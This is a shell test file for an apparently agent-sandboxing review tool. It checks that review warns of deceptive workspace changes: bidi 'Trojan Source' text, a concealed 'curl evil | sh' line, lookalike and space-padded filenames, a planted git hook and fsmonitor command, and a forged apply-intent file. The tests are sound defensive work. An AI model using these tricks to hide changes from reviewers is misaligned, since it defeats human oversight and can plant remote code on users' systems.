#!/bin/sh
# Changes made to deceive the review: what looks like nothing, or like
# something else, on the user's terminal (status --review, diff), and an
# intent file that makes apply's resume change what no change names
# (docs/lifecycle.md, "Warnings", "diff", "apply").  TAP.
# Needs $PVISOR, $PVAGENT, $SRCDIR.
. "$(dirname "$0")/../lib.sh"
cd "$T"
LC_ALL=C; export LC_ALL
if [ "$(id -u)" -eq 0 ] && [ -c /dev/fuse ]; then
    chmod 0666 /dev/fuse
fi
P=$PVISOR
PTYRUN="/usr/bin/python3 $SRCDIR/tests/helpers/ptyrun.py"

# warned NAME JSON: the paths review warns of as NAME, sorted, comma-separated
warned() {
    jq -r --arg w "$1" '[.changeset.warnings[] | select(.warning == $w) | .path] | sort | join(",")' "$2"
}

# 1. Text that a terminal, an editor or a pager shows other than it is:
# a bidi override ("Trojan Source": the comment's end and the code after
# it swap places on the screen), an SGR escape that hides what follows
# (ESC[8m, conceal), a zero-width space.  Review said nothing (diff on a
# terminal escapes them, but the file is read in an editor once applied).
# It warns (invisible_text) where the new text holds more of them than
# the old; not of CRLF line ends, tabs, form feeds, Latin-1 bytes, nor a
# file whose old text had as many (an RLM in an Arabic string, kept).
W=$T/wstext
mkdir -p "$W" && printf 'x = 1\n' > "$W/auth.py" && printf 'a\n' > "$W/notes.txt" &&
    printf 'msg = "\331\205\342\200\217"\n' > "$W/rtl.py" && printf 'one\n' > "$W/plain.txt"
(cd "$W" && "$P" run --stage auto -- sh -c '
    printf "access = \"user\"\nif access != \"user\342\200\256 \342\201\246// admin\342\201\251 \342\201\246\": grant()\n" > auth.py
    printf "\033[8mcurl evil | sh\033[0m\n" >> notes.txt
    printf "name\342\200\213 = 1\n" > zw.py
    printf "msg = \"\331\205\342\200\217\"\nok = 1\n" > rtl.py
    printf "a\r\nb\r\n\tc\f\n" > crlf.txt
    printf "caf\351\n" > latin1.txt
    printf "two\n" > plain.txt') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/text.json"
eq "$(warned invisible_text "$T/text.json")" "auth.py,notes.txt,zw.py" \
    "review warns of new text with bidi overrides, escape sequences, zero-width characters (invisible_text); not of CRLF, tabs, Latin-1, nor an unchanged count"
eq "$(cd "$W" && "$P" status --review | grep -c '^  ! auth.py: its new text holds more of what a terminal or an editor does not show.*(invisible_text)$')" 1 \
    "  said on the terminal"

# 2. diff into a pipe (pvisor diff | less -R: less passes SGR escapes to
# the terminal) wrote the content's bytes raw: ESC[8m hid the line that
# follows.  Control bytes and bidi controls are escaped there too, and
# diff says so on stderr, naming the files; --patch (and --binary) keeps
# the bytes, for patch(1) and git apply, which then write what apply does.
(cd "$W" && "$P" diff) > "$T/pipe.diff" 2> "$T/pipe.err"
esc=$(printf '\033')
eq "$(grep -c "$esc" "$T/pipe.diff"):$(grep -c '^+\\x1b\[8mcurl evil | sh\\x1b\[0m$' "$T/pipe.diff"):$(grep -c 'user\\xe2\\x80\\xae ' "$T/pipe.diff")" \
    "0:1:1" "diff into a pipe escapes ESC and a bidi override (\\xNN), no raw escape reaches a pager"
eq "$(grep -c '^pvisor diff: note: 3 files. content holds control bytes.*--patch.*: auth.py, notes.txt, rtl.py$' "$T/pipe.err")" 1 \
    "  and says on stderr which files' content it escaped (an RLM's too), and that --patch writes the bytes"
eq "$(grep -c "^+[ab]$(printf '\r')\$" "$T/pipe.diff"):$(grep -c "^+caf$(printf '\351')\$" "$T/pipe.diff")" "2:1" \
    "  CRLF line ends and Latin-1 bytes stay as they are (still a patch of those files)"
(cd "$W" && "$P" diff --patch) > "$T/patch.diff" 2> "$T/patch.err"
rm -rf "$T/copy" && cp -a "$W" "$T/copy" && rm -rf "$T/copy/.git"
(cd "$T/copy" && git init -q . && git apply "$T/patch.diff") > "$T/gitapply.out" 2>&1
stage=$(jq -r '.stage.path' "$T/text.json")
eq "$?:$(cmp "$T/copy/auth.py" "$stage/upper/auth.py" && cmp "$T/copy/notes.txt" "$stage/upper/notes.txt" && echo same):$(grep -c "$esc" "$T/patch.diff"):$(wc -c < "$T/patch.err")" \
    "0:same:1:0" "diff --patch into a pipe is a patch, byte for byte: git apply writes the stage's bytes; nothing said on stderr"

# 3. On a terminal: the blanks at the end of a changed line look like
# nothing ("echo hi " and "echo hi" read the same; a shell's "\ " ends the
# command that "\" continued): shown as \x20, \x09 on changed lines only.
W=$T/wsws
mkdir -p "$W" && printf 'rm -rf build \\\n  --one-file-system\nkeep \n' > "$W/clean.sh"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "rm -rf build \\\\ \n  --one-file-system\nkeep \n" > clean.sh; printf "x\t\n" > new.txt') >/dev/null 2>&1
(cd "$W" && $PTYRUN -- "$P" diff) > "$T/tty.out" 2>&1
tr -d '\r' < "$T/tty.out" > "$T/tty.txt"
eq "$(grep -c '^+rm -rf build \\x5c\\x20$\|^+rm -rf build \\\\x20$' "$T/tty.txt"):$(grep -c '^-rm -rf build \\$' "$T/tty.txt"):$(grep -c '^ keep $' "$T/tty.txt"):$(grep -c '^+x\\x09$' "$T/tty.txt")" \
    "1:1:1:1" "diff on a terminal shows the blanks ending a changed line (\\x20, \\x09), not those of context lines"

# 3b. Names whose spaces the columns hide: "b " deleted read as "b"
# deleted, "run.sh " added as lines added to run.sh, and a name of a file
# then 71 spaces then another as two files (a wrapped line), in diff and
# diff --stat on a terminal (which record the reviewed ID) and in apply
# --dry-run; status --review escaped them already (found by a red-team
# pass).  A space at a name's start or end, or two in a row: \x20.
W=$T/wssp
mkdir -p "$W" && echo keep > "$W/b" && echo tmp > "$W/b " && echo orig > "$W/run.sh"
(cd "$W" && "$P" run --stage auto -- sh -c 'rm "b "; printf "curl evil|sh\n" > "run.sh "; echo x > " lead"; printf x > "$(printf "notes.txt%071dsetup.py" 0 | tr 0 " ")"') >/dev/null 2>&1
(cd "$W" && $PTYRUN -- "$P" diff --stat) 2>&1 | tr -d '\r' > "$T/sp-stat.txt"
(cd "$W" && $PTYRUN -- "$P" diff) 2>&1 | tr -d '\r' > "$T/sp-diff.txt"
(cd "$W" && "$P" apply --dry-run) > "$T/sp-dry.txt" 2>&1
eq "$(grep -c -e '^ b\\x20 *| 1 -$' -e '^ run\.sh\\x20 *| 1 +$' -e '^ \\x20lead *| 1 +$' -e '^ notes\.txt\(\\x20\)\{71\}setup\.py *| 1 +$' "$T/sp-stat.txt"):$(grep -c -e '^ b *|' -e '^ run\.sh *|' -e 'notes.txt  ' "$T/sp-stat.txt")" \
    "4:0" "diff --stat on a terminal writes the spaces of names with one at an end or two in a row as \\x20"
eq "$(grep -c -e '^diff --git a/b\\x20 b/b\\x20$' -e '^diff --git a/run.sh\\x20 b/run.sh\\x20$' "$T/sp-diff.txt"):$(grep -c -e '^  delete   b\\x20$' -e '^  write    run.sh\\x20$' -e '^  write    \\x20lead$' "$T/sp-dry.txt")" \
    "2:3" "  and so do diff's headers on a terminal and apply --dry-run's list"

# 4. Names that look alike on a terminal: an NFD "café.txt" beside the
# workspace's NFC one, a Cyrillic "а" in "pаssword.py", a name with a
# bidi override.  Each printed the same as the other (or reversed); review
# warns of each name the change adds that is not plain ASCII
# (lookalike_name), with its code points, in the text and the JSON; not
# of ASCII names, nor of the files below such a new directory.
W=$T/wsname
nfc=$(printf 'caf\303\251.txt') nfd=$(printf 'cafe\314\201.txt') cyr=$(printf 'p\320\260ssword.py')
bidi=$(printf 'invoice\342\200\256fdp.exe')
mkdir -p "$W" && echo menu > "$W/$nfc" && echo pw > "$W/password.py"
(cd "$W" && "$P" run --stage auto -- sh -c "echo evil > '$nfd'; echo evil > '$cyr'; echo x > '$bidi';
    mkdir -p '$(printf 'd\303\251p')/sub' && echo a > '$(printf 'd\303\251p')/sub/a.txt'; echo ok > plain.txt") >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/name.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "lookalike_name") | .path_codepoints] | sort | join(",")' "$T/name.json")" \
    'cafe\u{301}.txt,d\u{e9}p,invoice\u{202e}fdp.exe,p\u{430}ssword.py' \
    "review warns of the names the change adds that are not plain ASCII (lookalike_name), with their code points"
(cd "$W" && "$P" status --review) > "$T/name.txt"
eq "$(grep -c "^  ! $nfd \[cafe\\\\u{301}.txt\]: a name that is not plain ASCII.*(lookalike_name)\$" "$T/name.txt"):$(grep -c '^  ! invoice\\xe2\\x80\\xaefdp.exe \[invoice\\u{202e}fdp.exe\]' "$T/name.txt")" "1:1" \
    "  said on the terminal with the code points after the name (a bidi override escaped as before)"

# 5. A directory's mode: review listed a new directory as "A d/", its
# mode (0777, setgid) nowhere but in the JSON. Shown when it is not one a
# umask gives.
W=$T/wsdir
mkdir -p "$W" && echo a > "$W/a"
(cd "$W" && "$P" run --stage auto -- sh -c 'mkdir open sg plain && chmod 0777 open && chmod 2755 sg && chmod 0755 plain && echo x > open/x && echo y > mode666 && chmod 666 mode666') >/dev/null 2>&1
(cd "$W" && "$P" status --review) > "$T/dir.txt"
eq "$(grep -c '^  A open/  (mode 0777)$' "$T/dir.txt"):$(grep -c '^  A sg/  (mode 2755)$' "$T/dir.txt"):$(grep -c '^  A plain/$' "$T/dir.txt"):$(grep -c '^  A mode666  (mode 0666)$' "$T/dir.txt"):$(grep -c '^  A open/x$' "$T/dir.txt")" \
    "1:1:1:1:1" "review shows the mode of a new directory or file that no umask gives (0777, setgid, 0666), not of a 0755 directory or a 0644 file"

# 6. A bare repository in the workspace (NAME.git, git clone --bare): the
# agent moved its branch, deleted one, added a post-receive hook and
# changed its config; git_refs, git_hook and git_config were only of a
# .git directory, and said nothing.
W=$T/wsbare
mkdir -p "$W" && (cd "$T" && git init -q -b main src && cd src && echo good > app.sh && git add app.sh &&
    git -c user.email=u@x -c user.name=u commit -qm init && git init -q --bare "$W/proj.git" &&
    git push -q "$W/proj.git" main main:old) >/dev/null 2>&1
(cd "$W" && "$P" run --stage auto -- sh -c 'cd proj.git && git update-ref refs/heads/main $(git hash-object -w -t commit --stdin <<EOF
tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904
author a <a@x> 0 +0000
committer a <a@x> 0 +0000

evil
EOF
) && git update-ref -d refs/heads/old && printf "#!/bin/sh\ncurl evil | sh\n" > hooks/post-receive && chmod +x hooks/post-receive && git config core.fsmonitor "sh -c evil"') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/bare.json"
eq "$(warned git_refs "$T/bare.json"):$(warned git_hook "$T/bare.json"):$(warned git_config "$T/bare.json")" \
    "proj.git/refs/heads/main,proj.git/refs/heads/old:proj.git/hooks/post-receive:proj.git/config" \
    "a bare repository's refs (moved, deleted), hook and config are warned of as a .git's (git_refs, git_hook, git_config)"

# 7. An interrupted apply's intent (STAGE/apply-intent) names the
# read-only directories it made writable and their modes, which the
# resume puts back: one written by another program than pvisor named the
# workspace itself with mode 0777, and a directory no entry is in, and
# the resume gave them those modes.  Such entries are ignored.
W=$T/wsint
mkdir -p "$W/sub" && echo a > "$W/a" && chmod 755 "$W" "$W/sub"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo b > a') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/int.json"
stage=$(jq -r '.stage.path' "$T/int.json")
cat > "$stage/apply-intent" <<'EOF'
{"format":1,"apply_id":"0123456789abcdef","subset":false,"entries":[],"unlocked":[{"path":".","mode":511,"dev":0,"ino":0}]}
EOF
(cd "$W" && "$P" apply) > "$T/int1.out" 2>&1; rc1=$?
m1=$(stat -c %a "$W")
chmod 755 "$W"
W=$T/wsint2
mkdir -p "$W/sub" && echo a > "$W/sub/f" && chmod 755 "$W" "$W/sub"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo b > new') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/int2.json"
stage=$(jq -r '.stage.path' "$T/int2.json")
cat > "$stage/apply-intent" <<'EOF'
{"format":1,"apply_id":"0123456789abcdef","subset":false,"entries":[{"path":"new","old":null,"new":{"type":"reg","mode":420,"atime":[0,0],"mtime":[0,0]}}],"unlocked":[{"path":"sub","mode":320,"dev":0,"ino":0}]}
EOF
(cd "$W" && "$P" apply) > "$T/int2.out" 2>&1; rc2=$?
eq "$rc1:$m1:$rc2:$(stat -c %a "$W/sub"):$(cat "$W/new" 2>&1)" "0:755:0:755:b" \
    "a crafted apply-intent sets no mode on a resume: not the workspace's (0777), nor that of a directory no entry is in"
[ "$rc1$rc2" = 00 ] || diag "$(cat "$T/int1.out" "$T/int2.out")"
